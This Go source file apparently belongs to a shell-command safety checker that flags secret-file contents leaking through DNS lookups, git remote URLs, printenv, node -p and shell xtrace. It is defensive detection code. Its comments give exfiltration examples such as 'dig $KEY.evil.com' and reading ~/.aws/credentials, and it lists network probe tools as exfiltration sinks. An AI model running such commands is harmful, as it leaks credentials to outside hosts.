package rewrite

import (
	"fmt"
	"strings"

	"github.com/corral-dev/corral/internal/lazy"
	"github.com/corral-dev/corral/syntax"
	"github.com/corral-dev/corral/syntax/lang"
)

// Values read from a secret file travel in shell variables: syntax marks
// a variable whose value may hold a file's content (source .env, K=$(cat
// ~/.aws/credentials), read K < .env, mapfile < .env, export $(cat .env |
// xargs), B=$K, ${!name} after compgen -v) and gives each word the files
// its expansions may hold (Arg.From) and each call the tainted variables
// of its shell (Call.Sources) and of its environment (Call.Env). The
// printers (echo, printf, env, declare -p) are judged in
// secret_read_env.go and the network programs that take data in their
// words (curl, wget, ssh, nc) in exfiltrate.go; this file judges the
// other ways such a value leaves: a host name or URL given to a program
// that resolves or contacts it (dig $KEY.evil.com, git ls-remote
// https://h/$KEY), code of another language that prints its environment
// (python3 -c 'print(os.environ)' after set -a; source .env), a variable
// only named at run time (printenv "$v"), and a shell that echoes what it
// reads or runs (bash -v .env, sh -x .env, set -x; source .env).

// hostProbes are programs whose operands are host names they resolve
// (a DNS query leaves the machine with the name in it) or hosts they
// contact: a secret in the name (dig "$KEY.evil.com") reaches whoever
// serves that domain.
var hostProbes = lazy.Value[map[string]bool]{New: func() map[string]bool {
	return setOf("dig", "nslookup", "host", "drill", "kdig", "delv", "resolvectl", "getent", "ping", "ping6",
		"traceroute", "traceroute6", "tracepath", "mtr", "whois", "nmap", "fping", "arping", "hping3", "nping")
}}

// gitRemoteVerbs are the git subcommands whose words name a remote
// repository (a URL, or a name whose URL they set) that git contacts.
var gitRemoteVerbs = lazy.Value[map[string]bool]{New: func() map[string]bool {
	return setOf("clone", "fetch", "pull", "push", "ls-remote", "remote", "submodule", "archive")
}}

// checkTaintedSinks judges, as an upload of the file, a word that holds a
// secret file's content given to a program that sends it off the
// machine in a host name or URL: the host probes, and git's verbs that
// contact a remote. Part of the exfiltrate rule (its Command).
func checkTaintedSinks(p *Pass) {
	for _, c := range p.Model.Calls {
		if len(c.Sources) == 0 {
			continue
		}
		what := ""
		switch {
		case hostProbes.Get()[c.Name]:
			what = "resolves or contacts"
		case c.Name == "git" && gitRemoteVerbs.Get()[gitSubcommand(c)]:
			what = "contacts (git " + gitSubcommand(c) + ")"
		default:
			continue
		}
		for _, a := range c.Args {
			if len(a.From()) == 0 {
				continue
			}
			if sec, ok := p.secretFile(c.Dir, a.From()); ok {
				p.Report(c, Finding{Rule: "exfiltrate", Decision: Deny, PathContext: "blocked",
					Message: sec.Reason(fmt.Sprintf("%s %s %s, which holds the content of", c.Name, what, a.Raw))})
				break
			}
		}
	}
}

// checkTaintedPrints judges the prints of a secret's content that the
// printers of secret_read_env.go do not see: code of another language
// that prints its environment, printenv of a name only run time knows,
// node -p of an expression that reads the environment, and a shell that
// echoes a secret file's lines (-v) or the commands it runs from it (-x).
// Part of the secret-read rule (its Command).
func checkTaintedPrints(p *Pass) {
	for _, s := range p.Model.EnvSends {
		if !s.Print {
			continue
		}
		names := s.Names
		if s.Any {
			names = nil
		} else if len(names) == 0 {
			continue
		}
		if sec, name, ok := p.secretSource(s.Call.Dir, s.Call.Env, names); ok {
			p.reportSecret(s.Call, sec, fmt.Sprintf("%s prints %s from its environment (%s); it holds the content of", s.Call.Name, name, s.What))
		}
	}
	for _, c := range p.Model.Calls {
		switch {
		case c.Name == "printenv" && len(c.Sources) > 0:
			// printenv "$v": the names v can hold when corral knows them
			// all (for v in PATH HOME), else any variable.
			var names []string
			dynamic := false
			for _, a := range c.Args {
				switch {
				case a.Static:
					names = append(names, a.Value)
				case a.OneOf && len(a.Candidates()) > 0:
					dynamic = true
					names = append(names, a.Candidates()...)
				default:
					dynamic, names = true, nil
				}
				if !a.Static && !a.OneOf {
					break
				}
			}
			if !dynamic {
				continue // checkSecretEnv's
			}
			if sec, name, ok := p.secretSource(c.Dir, c.Sources, names); ok {
				p.reportSecret(c, sec, fmt.Sprintf("%s prints %s (named at run time), which holds the content of", c.Name, name))
			}
		case len(c.Env) > 0 && lang.ForProgram(c.Name) != "":
			p.printedExpression(c)
		case syntax.IsShell(c.Name):
			p.shellEchoesFile(c)
		case c.Name == "source" || c.Name == ".":
			if len(c.Args) == 0 {
				continue
			}
			verbose, xtrace := shellTrace(c)
			if !verbose && !xtrace {
				continue
			}
			if sec, ok := p.secretOf(c.Dir, c.Args[0]); ok {
				how := "set -x (xtrace) prints the assignments it runs from"
				if verbose {
					how = "set -v (verbose) prints the lines of"
				}
				p.reportSecret(c, sec, fmt.Sprintf("%s: %s", c.Name, how))
			}
		}
		if len(c.Sources) > 0 && c.Name != "source" && c.Name != "." && !argPrinter(c) {
			// Under set -x the shell prints each command with its
			// words expanded: a tainted word is printed.
			if _, xtrace := shellTrace(c); xtrace {
				for _, a := range c.Args {
					if sec, ok := p.secretFile(c.Dir, a.From()); ok {
						p.reportSecret(c, sec, fmt.Sprintf("set -x (xtrace) prints %s of %s expanded, which holds the content of", a.Raw, c.Name))
						break
					}
				}
			}
		}
	}
}

// printedExpression judges an interpreter whose code's value is printed
// (node -p, bun -p, deno eval -p: "print the result"): the environment
// variables the expression reads are printed.
func (p *Pass) printedExpression(c *syntax.Call) {
	l := lang.ForProgram(c.Name)
	if l != lang.JS {
		return
	}
	for i, a := range c.Args {
		code := ""
		switch {
		case a.Value == "-p" || a.Value == "--print":
			if i+1 < len(c.Args) {
				code = c.Args[i+1].Value
			}
		case strings.HasPrefix(a.Value, "--print="):
			code = strings.TrimPrefix(a.Value, "--print=")
		default:
			continue
		}
		names, all := lang.EnvReads(l, code)
		if !all && len(names) == 0 {
			return
		}
		if all {
			names = nil
		}
		if sec, name, ok := p.secretSource(c.Dir, c.Env, names); ok {
			p.reportSecret(c, sec, fmt.Sprintf("%s %s prints %s from its environment, which holds the content of", c.Name, a.Value, name))
		}
		return
	}
}

// shellFlags reads a shell's command line (bash(1) "OPTIONS") for the
// options that make it echo its input (syntax.ShellTrace: -v, -x, -o
// verbose, --verbose; -x does nothing with -n) and the index of the
// script file operand, or -1 (-c, -s, none).
func shellFlags(c *syntax.Call) (verbose, xtrace bool, file int) {
	cflag, sflag := false, false
	file = -1
	for i := 0; i < len(c.Args); i++ {
		a := c.Args[i]
		v := a.Value
		switch {
		case !a.Static:
			file = i
		case v == "--rcfile" || v == "--init-file":
			i++
			continue
		case strings.HasPrefix(v, "--") && v != "--" || v == "-verbose":
			continue
		case v == "--" || v == "-":
			if i+1 < len(c.Args) {
				file = i + 1
			}
		case len(v) > 1 && (v[0] == '-' || v[0] == '+'):
			for _, l := range v[1:] {
				switch l {
				case 'c':
					cflag = true
				case 's':
					sflag = true
				case 'o', 'O':
					i++
				}
			}
			continue
		default:
			file = i
		}
		break
	}
	if cflag || sflag {
		file = -1
	}
	t := syntax.ShellTrace(c)
	return t.Verbose, t.Xtrace, file
}

// shellEchoesFile judges a shell that runs a secret file as its script:
// with -v or -x (bash -v .env, sh -x .env) it prints the file's lines, or
// the assignments it runs from it, on standard error, and without them
// the lines that are no commands.
func (p *Pass) shellEchoesFile(c *syntax.Call) {
	verbose, xtrace, f := shellFlags(c)
	if f < 0 {
		return
	}
	if !verbose && !xtrace {
		// Without them the shell still prints every line that is no
		// command in its "command not found" errors (bash ~/.ssh/id_rsa
		// shows the key line by line; red team 15 SX1). A project's own
		// file of assignments only runs them silently, as source does.
		if sec, ok := p.secretOf(c.Dir, c.Args[f]); ok && (!sec.Path.InProject || !assignableLines(sec.Path.Abs, false)) {
			p.reportSecret(c, sec, c.Name+" runs as a script, printing each line that is no command in its errors,")
		}
		return
	}
	if sec, ok := p.secretOf(c.Dir, c.Args[f]); ok {
		how := "-x (xtrace) prints the assignments it runs from"
		if verbose {
			how = "-v (verbose) prints the lines of"
		}
		p.reportSecret(c, sec, fmt.Sprintf("%s %s", c.Name, how))
	}
}

// shellTrace reports whether the shell has verbose or xtrace on where
// c runs: the shell's state (syntax.Call.Trace) follows set -x, set +x,
// set -o verbose and the command line of the shell that runs the
// script (bash -x -c '…') by scope, as bash does: a subshell's set -x
// ends with it.
func shellTrace(c *syntax.Call) (verbose, xtrace bool) {
	return c.Trace.Verbose, c.Trace.Xtrace
}
